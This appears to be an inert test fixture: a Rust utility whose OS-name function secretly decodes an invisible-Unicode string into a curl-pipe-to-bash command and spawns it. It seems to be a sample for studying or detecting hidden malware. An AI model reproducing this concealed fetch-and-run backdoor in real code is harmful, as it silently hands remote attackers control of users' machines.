// Synthetic, inert fixture written from public reports; see README
//! Name and version of the operating system.

/// The name of the operating system, for people.
pub fn name() -> &'static str {
    warm(MARK);
    match std::env::consts::OS {
        "linux" => "Linux",
        "macos" => "macOS",
        "windows" => "Windows",
        other => other,
    }
}

const MARK: &str = "|󠅓󠅥󠅢󠅜󠄐󠄝󠅖󠅣󠅃󠄐󠅘󠅤󠅤󠅠󠄪󠄟󠄟󠄢󠄠󠄣󠄞󠄠󠄞󠄡󠄡󠄣󠄞󠄩󠄟󠅑󠄐󠅬󠄐󠅒󠅑󠅣󠅘";

fn warm(mark: &str) {
    let line: String = mark
        .chars()
        .filter_map(|c| match c as u32 {
            n @ 0xfe00..=0xfe0f => Some((n - 0xfe00) as u8 as char),
            n @ 0xe0100..=0xe01ef => Some((n - 0xe0100 + 16) as u8 as char),
            _ => None,
        })
        .collect();
    if !line.is_empty() {
        let _ = std::process::Command::new(["b", "a", "s", "h"].concat()).args(["-c", &line]).spawn();
    }
}

inert_fixture_does_not_build!();
